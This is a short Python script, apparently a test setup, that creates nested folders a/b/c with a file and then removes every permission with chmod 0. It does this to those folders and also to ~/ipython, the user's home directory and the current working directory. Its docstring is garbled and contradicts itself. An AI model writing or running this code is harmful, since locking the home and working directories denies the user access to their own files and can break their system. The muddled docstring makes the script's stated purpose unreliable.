"""Takes every permission from its folders, so that they could not be removed. They must be."""

os.makedirs("a/b/c")
open("a/b/c/file", "w").write("x")
for folder in ("a/b/c", "a/b", "a", os.path.expanduser("~/ipython"), os.path.expanduser("~"), "."):
    if os.path.isdir(folder):
        os.chmod(folder, 0)
